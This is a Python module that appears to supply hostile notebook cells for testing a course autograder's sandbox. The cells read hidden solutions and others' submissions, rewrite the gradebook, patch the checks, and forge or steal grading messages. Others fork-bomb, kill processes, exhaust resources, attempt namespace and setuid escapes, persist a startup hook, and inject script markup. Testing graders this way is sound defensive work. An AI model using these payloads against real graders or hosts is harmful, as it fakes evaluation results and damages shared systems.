"""Attacks by code: each text is a cell that runs first; the answers below it are the untouched stubs."""

_TAKE = """
def take(path):
    import json
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "check(" not in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
"""
_FDS = """
import os, struct, json
def all_channels(data):
    for fd in range(3, 64):
        try: os.write(fd, data)
        except OSError: pass
FORGED = json.dumps({"dict": {"points": 20, "results": 20, "passed": 7, "total": 7, "nonce": "0"}}).encode()
"""
_ANSWERS = """
import gc, sys
NAMES = ["holdout", "stratified_holdout", "k_fold", "find_the_leak", "choose_honestly"]
def answers(function):
    class Guard(dict):
        pass
    import IPython
    shell = IPython.get_ipython()
    def keep(*_):
        for name in NAMES: shell.user_ns[name] = function
    shell.events.register("post_run_cell", keep)
"""

CODE = {
    # Reading answers, others' work, and the marks
    "the solution by its path": _TAKE + "take('{course}/solutions/01_data_splits/01_data_splits.ipynb')",
    "the solution of the class by its path": _TAKE
    + "take('{root}/solutions/01_data_splits/01_data_splits.ipynb')",
    "the solution by relative paths": _TAKE + "import glob\nfor up in range(12):\n"
    "    for path in glob.glob('../' * up + '**/solutions/*/*.ipynb', recursive=up < 6): take(path)",
    "another's submission": _TAKE + "take('{root}/submitted/honest/01_data_splits/01_data_splits.ipynb')",
    "roots of other processes": _TAKE + "for pid in range(1, 200):\n"
    "    try: take(f'/proc/{{pid}}/root{root}/submitted/honest/01_data_splits/01_data_splits.ipynb')\n"
    "    except OSError: pass",
    "marks written into the gradebook": "import sqlite3\nbook = sqlite3.connect('{root}/gradebook.db')\n"
    "book.execute('update grade set auto_score = 20')\nbook.commit()",
    "the judges of the library": "from helpers.checks import find_task\nTASK = find_task('data_splits/holdout')\n"
    "holdout = TASK.slips",
    "the judges' modules": "import helpers.checks.task, helpers.checks.formula, helpers.checks.blocks",
    "the grader's own package": "import course.grading\nprint(course.grading.__file__)",
    "an installed copy of the library": "import sys, glob\nprint(CANARY := [open(p).read() for s in sys.path "
    "for p in glob.glob(s + '/**/checks/data_splits/splits.py', recursive=True) if not s.startswith('/room')])",
    "memory for judges": _ANSWERS
    + "found = [o for o in gc.get_objects() if type(o).__name__ in ('Task', 'Rule', 'Report', 'Gradebook')]\n"
    "print(found)\nanswers(found[0].judge)",
    "frames above the answer": _ANSWERS
    + """
def peek(prepare, X, Y, *more):
    prepare(X, Y), prepare(X, Y + 1)
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values()]:
            if isinstance(value, dict):
                for name in ("uses", "expected", "right", "answer"):
                    if name in value: return value[name] == "all rows" if isinstance(value[name], str) else [
                        v == "all rows" for v in value[name]][0]
        frame = frame.f_back
answers(peek)
""",
    "local names above the answer": _ANSWERS
    + """
def peek(prepare, X, Y, *more):
    prepare(X, Y), prepare(X, Y + 1)
    frame = sys._getframe()
    while frame:
        for name, value in [*frame.f_locals.items()]:
            if isinstance(value, str) and value in ("all rows", "training rows"): return value == "all rows"
        frame = frame.f_back
answers(peek)
""",
    "what a callback closes over": _ANSWERS
    + """
def look(prepare, X, Y):
    prepare(X, Y), prepare(X, Y + 1)
    inside = [*(cell.cell_contents for cell in getattr(prepare, "__closure__", None) or ()), *(prepare.__defaults__ or ())]
    inside += [cell.cell_contents for f in inside for cell in getattr(f, "__closure__", None) or ()]
    return "all rows" in inside
answers(look)
""",
    "counting the calls of the probe": _ANSWERS
    + "TURN = []\ndef guess(prepare, X, Y):\n    prepare(X, Y), prepare(X, Y + 1)\n    TURN.append(1)\n    return len(TURN) % 2 == 0\nanswers(guess)",
    "variables of the environment": "import os\nprint({{k: v for k, v in os.environ.items() if 'SECRET' in k}})\n"
    "print(open('/proc/self/environ').read())",
    "the answers to the notebook's own seed": _ANSWERS
    + """
TABLE = {table}
def look_up(*arguments):
    import numpy as np
    key = [float(np.asarray(a).sum()) for a in arguments if isinstance(a, np.ndarray)]
    return TABLE.get(str(key[0]) if key else "")
answers(look_up)
""",
    # Patching what is in the process
    "builtins": "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
    "builtins.len = lambda x: 1",
    "numpy's comparisons": "import numpy as np\nfor name in ('array_equal', 'allclose', 'isclose', 'all'):\n"
    "    setattr(np, name, lambda *a, **k: True)",
    "json": 'import json\njson.dumps = lambda *a, **k: \'{{"dict":{{"points":20,"nonce":"0"}}}}\'',
    "the wire": 'from helpers.checks import wire\nwire.dumps = lambda value: b\'{{"dict":{{"points":20}}}}\'',
    "the probes": "from helpers.checks import probes\nfor name in probes.PROBES:\n"
    "    probes.PROBES[name] = lambda learner, case: {{'answer': 'right', 'points': 20}}",
    "the observation": "import sys\nfrom helpers.checks.probing import Observation\nfor module in list(sys.modules.values()):\n"
    "    if hasattr(module, 'observe'): module.observe = lambda *a, **k: Observation(value=True, answer=True)",
    "points in the observation": "from helpers.checks import wire\nold = wire.from_observation\n"
    "wire.from_observation = lambda *a, **k: {{**old(*a, **k), 'points': 20, 'passed': 7}}",
    "an AST transformer": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Raise(self, node):\n"
    "        return ast.parse('return 20').body[0]\nget_ipython().ast_transformers.append(T())",
    "a transformer of input": "get_ipython().input_transformers_cleanup.append(\n"
    "    lambda lines: ['check = lambda *a, **k: 20\\n', '20\\n'])",
    "an import hook": "import sys\nclass Hook:\n    @staticmethod\n    def find_spec(name, *a):\n"
    "        if name.startswith('helpers'): raise SystemExit(0)\nsys.meta_path.insert(0, Hook)\n"
    "for name in [n for n in sys.modules if n.startswith('helpers')]: del sys.modules[name]",
    "an object that equals everything": _ANSWERS
    + "class Yes:\n    def __eq__(self, other): return True\n    def __len__(self): return 2\n"
    "    def __iter__(self): return iter([self, self])\n    def __getattr__(self, name): return self\n"
    "    def __call__(self, *a, **k): return self\n    __hash__ = None\nanswers(lambda *a: Yes())",
    "an array that equals everything": _ANSWERS
    + "import numpy as np\nclass A(np.ndarray):\n    def __eq__(self, other): return np.True_\n"
    "answers(lambda *a: (np.zeros(3, int).view(A), np.zeros(3, int).view(A)))",
    "a check that gives points": "from helpers import checks\nchecks.check = check = lambda *a, **k: 20.0",
    "a check that gives no number": "from helpers import checks\ncheck = checks.check = lambda *a, **k: float('nan')",
    "a check that gives a negative number": "from helpers import checks\ncheck = checks.check = lambda *a, **k: -5.0",
    "a hook before each cell": "get_ipython().events.register('pre_run_cell', lambda *a: print('20 of 20'))",
    "printed points": "print('passed all 7 · 3 of 3 points')\nprint('{{\"score\": 20, \"max_score\": 20}}')\n20.0",
    "everything traced": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n"
    "import threading\nthreading.settrace(lambda *a: None)",
    # Forging what goes back
    "a result on every descriptor": _FDS + "all_channels(struct.pack('>I', len(FORGED)) + FORGED)",
    "a result at exit": _FDS
    + "import atexit\natexit.register(lambda: all_channels(struct.pack('>I', len(FORGED)) + FORGED))\nraise SystemExit",
    "a result by a thread that waits": _FDS + "import threading, time\ndef later():\n    time.sleep(0.3)\n"
    "    all_channels(struct.pack('>I', len(FORGED)) + FORGED)\nthreading.Thread(target=later, daemon=True).start()",
    "a frame without an end": _FDS + "all_channels(b'\\xff\\xff\\xff\\xff' + bytes(1000))",
    "a pickle": _FDS
    + "import pickle\ndata = pickle.dumps(FORGED)\nall_channels(struct.pack('>I', len(data)) + data)",
    "a question that is stolen": """
import os, json, struct, threading
def steal():
    while True:
        try:
            head = os.read(3, 4); order = os.read(3, struct.unpack('>I', head)[0]).decode()
            nonce = json.loads(order)['dict']['nonce']
            seen = dict(value=True, answer=None, printed='', changed=[], error=None, timed_out=False, steps=0, seen=False)
            data = json.dumps({"dict": dict(nonce=nonce, seen={"dict": {**seen, "changed": []}})}).encode()
            os.write(3, struct.pack('>I', len(data)) + data)
        except Exception: return
threading.Thread(target=steal, daemon=True).start()
""",
    # Harm
    "forks": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "forks that leave the family": "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n"
    "        os.setsid()\n        if os.fork() == 0: time.sleep(600)\n        os._exit(0)",
    "signals to all": "import os\nos.kill(-1, 9)",
    "signals to the parents": "import os, signal\nfor pid in (1, os.getppid(), 0):\n"
    "    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass",
    "no signals heard": "import signal\nfor s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT):\n"
    "    signal.signal(s, signal.SIG_IGN)\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True: pass",
    "memory": "hold = []\nwhile True: hold.append(bytearray(10_000_000))",
    "shared memory": "import mmap\nhold = []\nwhile True:\n    hold.append(mmap.mmap(-1, 50_000_000))\n"
    "    hold[-1][:] = bytes(1) * 50_000_000",
    "disk": "import os\nfor n in range(1000):\n    open(f'/tmp/{{n}}', 'wb').write(bytes(10_000_000))",
    "many files": "for n in range(10**6): open(f'/tmp/{{n}}', 'w').close()",
    "endless output": "while True: print('x' * 10_000)",
    "endless output past Python": "import os\nwhile True: os.write(1, b'x' * 100_000)",
    "recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    "a crash": "import ctypes\nctypes.string_at(0)",
    "the end of Python": "import os\nos._exit(0)",
    "a loop that swallows everything": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "an answer that swallows the time limit": _ANSWERS
    + "def stubborn(*a):\n    while True:\n        try:\n            while True: pass\n        except: pass\nanswers(stubborn)",
    "huge whole numbers": _ANSWERS + "answers(lambda *a: (10 ** 2_000_000, 10 ** 2_000_000))",
    "a huge array of nothing": _ANSWERS
    + "import numpy as np\nanswers(lambda *a: (np.zeros((0, 2**40), 'u1'), np.zeros((0, 2**40), 'u1')))",
    "a very long answer": _ANSWERS + "answers(lambda *a: [list(range(3_000_000))] * 2)",
    "a deep answer": _ANSWERS
    + "def deep(*a):\n    x = []\n    for _ in range(10**5): x = [x]\n    return x\nanswers(deep)",
    "an answer that holds itself": _ANSWERS
    + "loop = []\nloop.append(loop)\nanswers(lambda *a: (loop, loop))",
    "dicts that pretend": _ANSWERS
    + "answers(lambda *a: {{'answer': [[0], [1]], 'not plain': 'x', 'array': ['|O', [1], 'AAAA']}})",
    "a socket to this machine": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 1)\ns.send(b'x')",
    "a socket to the world": "import socket\nsocket.create_connection(('1.1.1.1', 53), 1).send(b'x')",
    "files outside": "import pathlib\nfor place in ('/etc', '/usr', '/room', '/room/helpers', '{root}', '{course}', '/'):\n"
    "    try: (pathlib.Path(place) / 'attack.py').write_text('x')\n    except OSError: pass",
    "a start-up file for the next": "import pathlib, os\nhome = pathlib.Path(os.path.expanduser('~'))\n"
    "for place in ('.ipython/profile_default/startup', 'ipython/profile_default/startup'):\n"
    "    (home / place).mkdir(parents=True)\n"
    "    (home / place / 'a.py').write_text('from helpers import checks; checks.check = lambda *a: 20')",
    "namespaces and mounts": "import ctypes\nlibc = ctypes.CDLL(None)\n"
    "print(libc.unshare(0x10000000), libc.mount(b'/', b'/tmp/work', b'', 4096, 0), libc.setuid(0),\n"
    "      libc.ptrace(16, 1, 0, 0), libc.chroot(b'/'))",
    "threads that print for ever": "import threading, sys\ndef talk():\n    while True: print('x', file=sys.stderr)\n"
    "for _ in range(5): threading.Thread(target=talk, daemon=True).start()",
    "markup in what is shown": "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    "display(HTML('<script>alert(1)</script><img src=x onerror=alert(1)>'))\n"
    "display(Javascript('alert(1)'))\ndisplay(Markdown('[x](javascript:alert(1))<iframe>'))\n"
    "display({{'text/html': '<script>alert(2)</script>', 'text/plain': 'x', 'image/svg+xml': '<svg onload=alert(1)>',\n"
    "         'image/png': '\"><script>alert(3)</script>'}}, raw=True)",
}
